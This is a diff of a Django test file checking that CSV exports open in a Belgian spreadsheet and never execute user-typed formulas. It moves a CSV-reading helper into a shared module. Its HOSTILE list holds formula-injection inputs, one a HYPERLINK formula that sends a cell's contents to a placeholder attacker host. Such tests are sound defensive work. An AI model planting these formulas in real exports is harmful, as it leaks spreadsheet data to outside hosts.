@@ -1,9 +1,6 @@
 """core/exports.py: every CSV export opens in a Belgian spreadsheet and never runs a formula
 typed by a person."""
 
-import csv
-import io
-
 import pytest
 from django.urls import reverse
 from django.utils import timezone
@@ -13,13 +10,9 @@ from events.services import register
 from figures.queries import FIGURES
 from portions import services
 from tests.factories import make_event
+from tests.reading import read_csv
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1;"Click")', "+32=1+1", "-1", "@x"]
-
-
-def read_csv(response) -> list[list[str]]:
-    assert response.status_code == 200
-    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
 
 
 def test_the_file_has_the_belgian_excel_preamble():
